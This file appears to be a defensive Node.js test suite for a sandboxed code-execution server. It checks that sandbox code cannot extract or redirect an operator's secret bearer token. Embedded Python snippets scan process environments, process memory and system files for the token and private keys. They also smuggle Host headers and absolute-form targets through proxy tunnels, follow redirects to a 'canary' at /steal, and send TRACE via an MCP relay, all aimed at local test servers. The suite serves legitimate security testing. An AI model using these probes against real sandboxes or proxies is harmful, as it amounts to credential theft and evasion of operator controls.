// Attack: sandbox code trying to get at the operator's secret headers (egress.secrets), or to make
// the sidecar send them somewhere else. The session may reach one HTTPS upstream that gets a
// bearer token (127.0.0.1:<api>, its certificate from a test CA the operator trusts) and one
// "impostor" that the operator also listed with a token but whose certificate no trusted CA
// signed (what a hijacked DNS name or a stolen address looks like). A canary HTTPS server is not
// listed at all. From inside the runsc sandbox, code:
//   - looks for the token in every process's environment and command line it can read, in its
//     own memory (gVisor lets a process read only its own /proc/N/mem), and in the files of
//     /tmp, /workspace, /run/mcp and /etc; looks for a private key next to the session CA;
//   - inside an intercepted tunnel, names the canary in Host, or sends an absolute-form target;
//   - follows the upstream's redirect to the canary;
//   - calls the impostor;
//   - through the MCP relay to an allowlisted MCP server with the same token (plain HTTP on
//     loopback): sends TRACE (whose answer would echo the token), a Host naming the canary, an
//     absolute-form target naming it, and asks for a redirect to it.
// Must hold: the token is found nowhere in the sandbox; the api upstream sees it on every request
// and with its own Host (as does the MCP server, which never sees TRACE); the canary sees no
// request; the impostor sees no HTTP request at all
// (the sidecar refuses its certificate before sending a byte of the request); no log, audit line
// or stat holds the token; nothing is left behind.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import os from 'node:os';
import path from 'node:path';
import { assertNoLeaks, connectHttp, snapshot, startHttpServer, stopServer } from './attack_lib.mjs';
import { makeCertificates } from '../e2e/package_index.mjs';

// An HTTPS server on 127.0.0.1 recording each request's Authorization, Host and target, and
// answering only whether it got an Authorization header (never the value). GET /redirect answers
// 302 to `redirectTo`.
async function startRecorder(tls, redirectTo = () => '') {
  const seen = [];
  const sockets = new Set();
  const server = https.createServer({ key: tls.key, cert: tls.cert }, (req, res) => {
    seen.push({ authorization: req.headers.authorization ?? null, host: req.headers.host, url: req.url });
    req.resume();
    if (req.url === '/redirect') {
      res.writeHead(302, { Location: redirectTo(), 'Content-Length': '0' });
      res.end();
      return;
    }
    res.writeHead(200, { 'Content-Type': 'application/json' });
    res.end(JSON.stringify({ got_authorization: Boolean(req.headers.authorization) }));
  });
  server.on('connection', (s) => { sockets.add(s); s.on('close', () => sockets.delete(s)); });
  await new Promise((resolve) => server.listen({ host: '127.0.0.1', port: 0 }, resolve));
  return {
    seen,
    port: server.address().port,
    close: () => new Promise((resolve) => {
      for (const s of sockets) s.destroy();
      server.close(resolve);
    }),
  };
}

// The same over plain HTTP: an MCP server the relay reaches on loopback.
async function startPlainRecorder(redirectTo) {
  const seen = [];
  const server = http.createServer((req, res) => {
    seen.push({ authorization: req.headers.authorization ?? null, host: req.headers.host,
      url: req.url, method: req.method });
    req.resume();
    if (req.url === '/mcp/redirect') {
      res.writeHead(302, { Location: redirectTo(), 'Content-Length': '0' });
      res.end();
      return;
    }
    res.writeHead(200, { 'Content-Type': 'application/json' });
    res.end(JSON.stringify({ got_authorization: Boolean(req.headers.authorization) }));
  });
  await new Promise((resolve) => server.listen({ host: '127.0.0.1', port: 0 }, resolve));
  return {
    seen,
    port: server.address().port,
    close: () => new Promise((resolve) => { server.closeAllConnections(); server.close(resolve); }),
  };
}

async function runPython(client, code, extra = {}) {
  const res = await client.callTool({
    name: 'run_code',
    arguments: {
      code, egress: true, environment: { NO_PROXY: '', no_proxy: '' }, timeout: 120, ...extra,
    },
  });
  assert.ok(!res.isError, res.content?.[0]?.text);
  const sc = res.structuredContent;
  assert.equal(sc.status, 'success', sc.stderr);
  return { sc, out: JSON.parse(sc.stdout.trim().split('\n').pop()) };
}

describe('egress secrets under attack', () => {
  let api;
  let impostor;
  let canary;
  let mcpServer;
  let server;
  let client;
  let dir;
  let leaks;
  const token = `tok-${crypto.randomBytes(16).toString('hex')}`;
  before(async () => {
    leaks = await snapshot();
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'egress-secrets-attack-'));
    fs.mkdirSync(path.join(dir, 'trusted'));
    fs.mkdirSync(path.join(dir, 'untrusted'));
    const trusted = await makeCertificates(path.join(dir, 'trusted'));
    const untrusted = await makeCertificates(path.join(dir, 'untrusted'));
    canary = await startRecorder(trusted);
    api = await startRecorder(trusted, () => `https://127.0.0.1:${canary.port}/steal`);
    impostor = await startRecorder(untrusted);
    mcpServer = await startPlainRecorder(() => `https://127.0.0.1:${canary.port}/steal`);
    const tokenFile = path.join(dir, 'token');
    fs.writeFileSync(tokenFile, `${token}\n`, { mode: 0o600 });
    const secret = { Authorization: { file: tokenFile, prefix: 'Bearer ' } };
    const config = path.join(dir, 'config.json');
    fs.writeFileSync(config, JSON.stringify({
      egress: {
        enabled: true,
        allow: [`127.0.0.1:${api.port}`, `127.0.0.1:${impostor.port}`],
        secrets: [
          { host: '127.0.0.1', port: api.port, headers: secret },
          { host: '127.0.0.1', port: impostor.port, headers: secret },
          { host: '127.0.0.1', port: mcpServer.port, headers: secret },
        ],
        upstream_ca_file: trusted.caFile,
      },
      // The sanitizer build's allocator keeps freed memory in quarantine (see e2e_egress).
      mcp: {
        allowlist: [`http://127.0.0.1:${mcpServer.port}/mcp`],
        sidecar: { memory_mib: 256 },
        audit_log: path.join(dir, 'audit.jsonl'),
      },
    }));
    server = await startHttpServer(['--config', config]);
    ({ client } = await connectHttp(server.url));
  });
  after(async () => {
    await client?.close();
    if (server) await stopServer(server);
    await api?.close();
    await impostor?.close();
    await canary?.close();
    await mcpServer?.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  test('the sandbox holds the token nowhere, and no CA key', async () => {
    // The code holds the token as two halves and matches them next to each other in what it
    // reads, so it never holds the token whole itself.
    const half = token.length >> 1;
    const { sc, out } = await runPython(client, `
import json, os, re, urllib.request
answers = []
for _ in range(2):
    req = urllib.request.Request("https://127.0.0.1:${api.port}/api", headers={"Authorization": "Bearer fake"})
    answers.append(json.load(urllib.request.urlopen(req, timeout=30)))
head, tail = b"${token.slice(0, half)}", b"${token.slice(half)}"
def holds(data):
    i = data.find(head)
    while i >= 0:
        if data[i + len(head):i + len(head) + len(tail)] == tail:
            return True
        i = data.find(head, i + 1)
    return False
hits, regions, keys = [], 0, []
for name in os.listdir("/proc"):
    if not name.isdigit():
        continue
    for part in ("environ", "cmdline"):
        try:
            if holds(open(f"/proc/{name}/{part}", "rb").read()):
                hits.append(f"{name} {part}")
        except OSError:
            pass
with open("/proc/self/mem", "rb", 0) as mem:
    for line in open("/proc/self/maps").read().splitlines():
        m = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
        if not m:
            continue
        start, end = int(m.group(1), 16), int(m.group(2), 16)
        if end - start > 256 << 20:
            continue
        try:
            mem.seek(start)
            chunk = mem.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        regions += 1
        if holds(chunk):
            hits.append(f"memory {line}")
for root in ["/tmp", "/workspace", "/run/mcp", "/etc"]:
    for dirpath, _, files in os.walk(root):
        for f in files:
            try:
                data = open(os.path.join(dirpath, f), "rb").read()
            except OSError:
                continue
            if holds(data):
                hits.append(os.path.join(dirpath, f))
            if dirpath.startswith("/run/mcp") and b"PRIVATE KEY" in data:
                keys.append(os.path.join(dirpath, f))
print(json.dumps({"answers": answers, "hits": hits, "regions": regions, "keys": keys,
                  "run_mcp": sorted(os.listdir("/run/mcp"))}))
`);
    assert.deepEqual(out.answers.map((a) => a.got_authorization), [true, true]);
    assert.deepEqual(api.seen.map((r) => r.authorization), [`Bearer ${token}`, `Bearer ${token}`]);
    assert.deepEqual(out.hits, [], 'the token is visible inside the sandbox');
    assert.ok(out.regions > 10, `too few memory regions were read (${out.regions})`);
    assert.ok(out.run_mcp.includes('egress-ca.pem'), out.run_mcp.join());
    assert.deepEqual(out.keys, [], 'a private key is visible next to the session CA');
    const stats = await client.callTool({ name: 'get_session_stats', arguments: { session_id: sc.session_id } });
    assert.ok(!JSON.stringify(stats).includes(token), 'get_session_stats shows the token');
  });

  test('smuggling in the tunnel, a redirect and an impostor never carry the token elsewhere', async () => {
    api.seen.length = 0;
    const { out } = await runPython(client, `
import json, socket, ssl, urllib.error, urllib.request
def tunnel(port):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(f"CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n".encode())
    head = b""
    while b"\\r\\n\\r\\n" not in head:
        chunk = s.recv(1)
        if not chunk:
            break
        head += chunk
    assert head.startswith(b"HTTP/1.1 200"), head
    return ssl.create_default_context().wrap_socket(s, server_hostname="127.0.0.1")
def exchange(tls, request):
    tls.sendall(request.encode())
    answer = b""
    try:
        while True:
            chunk = tls.recv(65536)
            if not chunk:
                break
            answer += chunk
    except (OSError, ssl.SSLError):
        pass
    return answer.split(b"\\r\\n", 1)[0].decode(errors="replace")
results = {}
# Host naming the canary: rewritten to the CONNECT host.
results["foreign_host"] = exchange(tunnel(${api.port}),
    "GET /host HTTP/1.1\\r\\nHost: 127.0.0.1:${canary.port}\\r\\nConnection: close\\r\\n\\r\\n")
# An absolute-form target naming the canary: refused inside the tunnel.
results["absolute"] = exchange(tunnel(${api.port}),
    "GET https://127.0.0.1:${canary.port}/steal HTTP/1.1\\r\\nHost: 127.0.0.1:${canary.port}\\r\\n\\r\\n")
# The upstream redirects to the canary; urllib follows: a CONNECT to an unlisted host.
try:
    urllib.request.urlopen("https://127.0.0.1:${api.port}/redirect", timeout=30)
    results["redirect"] = "followed"
except urllib.error.URLError as e:
    results["redirect"] = str(e)
# The impostor: listed, with a token, but its certificate is signed by no trusted CA.
try:
    urllib.request.urlopen("https://127.0.0.1:${impostor.port}/", timeout=30)
    results["impostor"] = "answered"
except urllib.error.HTTPError as e:
    results["impostor"] = f"{e.code} {e.reason}"
except urllib.error.URLError as e:
    results["impostor"] = str(e)
print(json.dumps(results))
`);
    assert.match(out.foreign_host, /^HTTP\/1\.1 200/, out.foreign_host);
    assert.match(out.absolute, /^HTTP\/1\.1 400/, out.absolute);
    assert.match(out.redirect, /403/, out.redirect);
    assert.match(out.impostor, /502|Bad Gateway|Tunnel connection failed/i, out.impostor);
    assert.deepEqual(api.seen.map((r) => r.url), ['/host', '/redirect']);
    for (const request of api.seen) {
      assert.equal(request.host, `127.0.0.1:${api.port}`, 'the sandbox chose the Host upstream');
      assert.equal(request.authorization, `Bearer ${token}`);
    }
    assert.deepEqual(canary.seen, [], 'the canary got a request');
    assert.deepEqual(impostor.seen, [], 'the impostor got a request (and so the token)');
  });

  test('through the MCP relay: TRACE, a foreign Host, another target and a redirect carry nothing out', async () => {
    const { out } = await runPython(client, `
import json, os, socket
def relay(request):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(20)
    s.connect(os.environ["MCP_PROXY_SOCKET"])
    s.sendall(request.encode())
    answer = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        answer += chunk
    s.close()
    head, _, body = answer.partition(b"\\r\\n\\r\\n")
    return {"status": head.split(b"\\r\\n", 1)[0].decode(), "body": body.decode(errors="replace")}
mcp = "http://127.0.0.1:${mcpServer.port}"
results = {
    "plain": relay(f"POST {mcp}/mcp HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{{}}"),
    "trace": relay(f"TRACE {mcp}/mcp HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nConnection: close\\r\\n\\r\\n"),
    "foreign_host": relay(f"GET /mcp HTTP/1.1\\r\\nHost: 127.0.0.1:${canary.port}\\r\\nConnection: close\\r\\n\\r\\n"),
    "other_target": relay(f"GET http://127.0.0.1:${canary.port}/mcp HTTP/1.1\\r\\nHost: 127.0.0.1:${mcpServer.port}\\r\\nConnection: close\\r\\n\\r\\n"),
    "redirect": relay(f"GET {mcp}/mcp/redirect HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nConnection: close\\r\\n\\r\\n"),
}
print(json.dumps(results))
`, { mcp_allowlist: [`http://127.0.0.1:${mcpServer.port}/mcp`] });
    assert.match(out.plain.status, / 200 /, JSON.stringify(out.plain));
    assert.match(out.trace.status, / 403 /, JSON.stringify(out.trace));
    assert.match(out.trace.body, /would echo/);
    // Origin-form with a Host naming the canary: the relay goes by the Host, which no rule allows.
    assert.match(out.foreign_host.status, / 403 /, JSON.stringify(out.foreign_host));
    assert.match(out.other_target.status, / 403 /, JSON.stringify(out.other_target));
    assert.match(out.redirect.status, / 302 /, 'the relay passes a redirect back, never follows it');
    for (const result of Object.values(out)) assert.ok(!result.body.includes(token), 'an answer holds the token');
    assert.deepEqual(mcpServer.seen.map((r) => `${r.method} ${r.url}`), ['POST /mcp', 'GET /mcp/redirect']);
    for (const request of mcpServer.seen) {
      assert.equal(request.authorization, `Bearer ${token}`);
      assert.equal(request.host, `127.0.0.1:${mcpServer.port}`);
    }
    assert.deepEqual(canary.seen, [], 'the canary got a request');
  });

  test('no log holds the token, and the server left nothing behind', async () => {
    await client.close();
    client = null;
    await stopServer(server);
    assert.ok(!server.logText().includes(token), 'the server log holds the token');
    server = null;
    // The sessions' audit lines, kept when they ended: the header named, never its value.
    const audit = fs.readFileSync(path.join(dir, 'audit.jsonl'), 'utf8');
    assert.match(audit, /secret headers set: Authorization/);
    assert.ok(!audit.includes(token), 'the audit log holds the token');
    await assertNoLeaks(leaks);
  });
});
